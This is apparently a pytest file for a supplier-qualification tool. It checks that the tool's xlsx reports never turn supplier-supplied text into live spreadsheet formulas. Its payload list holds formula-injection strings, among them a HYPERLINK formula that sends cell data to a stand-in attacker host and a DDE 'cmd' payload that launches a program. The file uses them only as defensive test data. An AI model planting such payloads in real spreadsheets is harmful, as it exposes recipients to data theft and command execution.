"""The xlsx report: what it holds, and that no supplier text in it can ever be a formula."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pluggy
import pytest
from openpyxl.cell.cell import Cell

import supplier_qual
from supplier_qual.adapters.xlsx.cells import put

from .conftest import AS_OF, VALID_CERTIFICATE

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "=",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "=cmd|' /C calc'!A0",
]


def _cells(data: bytes) -> list[Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_put_never_writes_a_formula(payload: str) -> None:
    wb = openpyxl.Workbook()
    ws = wb.worksheets[0]
    put(ws, 1, 1, payload)
    out = io.BytesIO()
    wb.save(out)
    (cell,) = _cells(out.getvalue())
    assert cell.data_type != "f"
    assert cell.value == payload.replace("\r", "\n")  # XML reads a bare CR as a line feed
    if payload[0] in "=+-@\t\r":
        assert cell.quotePrefix


def test_put_drops_characters_xml_cannot_hold_and_caps_length() -> None:
    ws = openpyxl.Workbook().worksheets[0]
    assert put(ws, 1, 1, "bell\x07 and nul\x00").value == "bell and nul"
    assert len(str(put(ws, 2, 1, "x" * 40_000).value)) == 32_767


def test_no_cell_of_a_report_from_a_malicious_submission_is_a_formula(
    pm: pluggy.PluginManager, make_submission: Callable[..., dict[str, Any]]
) -> None:
    evil = dict(enumerate(PAYLOADS))
    certificate = {
        **VALID_CERTIFICATE,
        "number": evil[0],
        "holder": evil[3],
        "certification_body": evil[4],
        "accreditation_body": evil[5],
        "scope": evil[6],
    }
    submission = make_submission(
        {"A1": {"value": "No", "evidence": evil[1], "comment": evil[9]}}, certificates=[certificate]
    )
    submission["supplier"] = {"name": evil[0], "id": evil[7], "country": evil[8]}
    assessment = supplier_qual.assess(submission, as_of=AS_OF, pm=pm)
    report = supplier_qual.render(assessment, "xlsx", pm=pm)
    assert isinstance(report, bytes)
    cells = _cells(report)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert {evil[0], evil[3], evil[4], evil[5]} <= values


def test_report_holds_summary_outcomes_chart_findings_certificates_and_actions(
    pm: pluggy.PluginManager, make_submission: Callable[..., dict[str, Any]]
) -> None:
    assessment = supplier_qual.assess(make_submission({"H2": 0, "A2": "Partly"}), as_of=AS_OF, pm=pm)
    report = supplier_qual.render(assessment, "xlsx", pm=pm)
    assert isinstance(report, bytes)
    wb = openpyxl.load_workbook(io.BytesIO(report))
    assert wb.sheetnames == ["Summary", "Outcomes", "Findings", "Certificates", "Corrective actions"]
    summary = {row[0]: row[1] for row in wb["Summary"].iter_rows(min_row=3, values_only=True) if row[0]}
    assert assessment.decision is not None
    assert summary["Decision"] == assessment.decision.decision.replace("_", " ").upper()
    assert summary["Overall score"] == round(assessment.decision.score, 1)
    outcomes = list(wb["Outcomes"].iter_rows(min_row=4, max_col=3, values_only=True))
    assert [(oid, score) for oid, _, score in outcomes] == [
        (oid, round(result.score, 1)) for oid, result in assessment.outcomes.items()
    ]
    assert len(wb["Outcomes"]._charts) == 1
    assert wb["Certificates"]["A4"].value == VALID_CERTIFICATE["number"]
    assert wb["Corrective actions"].max_row == 3 + len(assessment.corrective_actions)
    assert wb["Findings"].max_row == 3 + len(assessment.findings)
